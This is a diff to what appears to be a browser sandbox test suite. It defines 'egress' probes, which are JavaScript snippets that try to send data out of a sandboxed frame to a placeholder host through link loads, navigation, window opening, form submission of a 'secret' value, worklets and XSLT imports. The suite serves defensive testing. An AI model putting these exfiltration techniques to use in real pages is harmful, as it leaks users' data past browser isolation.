@@ -1,4 +1,4 @@
-import type { Probe } from "../probe.ts";
+import type { Evidence, Probe } from "../probe.ts";
 
 type Given = Omit<Probe, "family" | "attack" | "name">;
 
@@ -7,6 +7,7 @@ function egress(name: string, attack: string, given: Partial<Given> = {}): Probe
   return { family: "egress", control: "frame", ...given, name, attack: `async () => { ${attack} }` };
 }
 
+const opens = ({ hits, events }: Evidence) => hits.length > 0 || events.some((text) => text.includes("window"));
 const html = (text: string) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(text)});`;
 
 /** Loads that a document makes by itself. */
@@ -44,11 +45,19 @@ export const egressLoads: Probe[] = [
     "const s = document.createElement('script'); s.type = 'module'; s.src = '__OUT__/module.js'; document.head.append(s);",
   ),
   egress("link preload", html("<link rel='preload' as='image' href='__OUT__/preload.svg'>")),
-  egress("link modulepreload", html("<link rel='modulepreload' href='__OUT__/module.js'>")),
-  egress("link prefetch", html("<link rel='prefetch' href='__OUT__/prefetch'>"), {
-    unprovable: { webkit: "WebKit has no prefetch links by default" },
+  egress(
+    "link modulepreload",
+    "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = '__OUT__/module.js'; document.head.append(l);",
+  ),
+  egress("link prefetch", html("<link rel='prefetch' href='__OUT__/prefetch'>")),
+  egress("link preconnect", html("<link rel='preconnect' href='http://127.0.0.1:__TCP__'>"), {
+    ports: true,
+    profile: "ordinary",
   }),
-  egress("link preconnect", html("<link rel='preconnect' href='http://127.0.0.1:__TCP__'>"), { ports: true }),
+  egress("link dns-prefetch", html("<link rel='dns-prefetch' href='http://__LOOKUP__'>"), {
+    profile: "ordinary",
+    unprovable: { webkit: NO_LOOKUPS() },
+  }),
   egress("link icon", html("<link rel='icon' href='__OUT__/icon.svg'>"), {
     unprovable: { chromium: NO_ICONS(), firefox: NO_ICONS(), webkit: NO_ICONS() },
   }),
@@ -73,7 +82,7 @@ export const egressLoads: Probe[] = [
     `const p = new XSLTProcessor();
     p.importStylesheet(new DOMParser().parseFromString("<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='__OUT__/sheet.xsl'/></xsl:stylesheet>", "text/xml"));`,
     {
-      unprovable: { chromium: NO_XSLT(), firefox: NO_XSLT(), webkit: NO_XSLT() },
+      unprovable: { chromium: NO_XSLT(), webkit: NO_XSLT() },
     },
   ),
 ];
@@ -85,9 +94,7 @@ export const egressNavigation: Probe[] = [
   egress("navigate by location.replace", "location.replace('__OUT__/replace.html');"),
   egress("navigate by self.location", "globalThis.location = '__OUT__/self.html';"),
   egress("navigate by document.location", "document.location = '__OUT__/document.html';"),
-  egress("navigate by the Navigation API", "navigation.navigate('__OUT__/navigation.html');", {
-    unprovable: { webkit: "this WebKit has no Navigation API" },
-  }),
+  egress("navigate by the Navigation API", "navigation.navigate('__OUT__/navigation.html');"),
   egress("navigate by meta refresh", html("<meta http-equiv='refresh' content='0; url=__OUT__/refresh.html'>")),
   egress(
     "navigate by clicking a link",
@@ -114,8 +121,8 @@ export const egressNavigation: Probe[] = [
   ),
   egress("navigate the page above", "parent.location = '__OUT__/parent.html';"),
   egress("navigate the top page", "top.location.href = '__OUT__/top.html';"),
-  egress("open a window", "open('__OUT__/window.html');"),
-  egress("open a window without an opener", "open('__OUT__/window.html', '_blank', 'noopener');"),
+  egress("open a window", "open('__OUT__/window.html');", { breached: opens }),
+  egress("open a window without an opener", "open('__OUT__/window.html', '_blank', 'noopener');", { breached: opens }),
   egress(
     "submit a form by GET",
     html("<form id='f' action='__OUT__/get.html'><input name='q' value='secret'></form>") +
@@ -129,6 +136,7 @@ export const egressNavigation: Probe[] = [
   egress(
     "submit a form into a new window",
     html("<form id='f' target='_blank' action='__OUT__/blank.html'></form>") + "document.querySelector('#f').submit();",
+    { breached: opens },
   ),
   egress(
     "download by a link",
@@ -218,10 +226,7 @@ export const egressWorkers: Probe[] = [
   thread(
     "worklet within a Worker",
     "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('data:text/javascript,import \"__OUT__/worklet.js\"');",
-    {
-      control: "frame",
-      unprovable: { firefox: "Firefox's worklets do not load modules from data:" },
-    },
+    { control: "frame" },
   ),
 ];
 
@@ -231,6 +236,10 @@ function thread(name: string, attack: string, given: Partial<Given> = {}): Probe
 
 function NO_ICONS(): string {
   return "only a browser window with its own surroundings loads these, and only for the top document";
+}
+
+function NO_LOOKUPS(): string {
+  return "this browser does not say which names it looks up";
 }
 
 function NO_XSLT(): string {
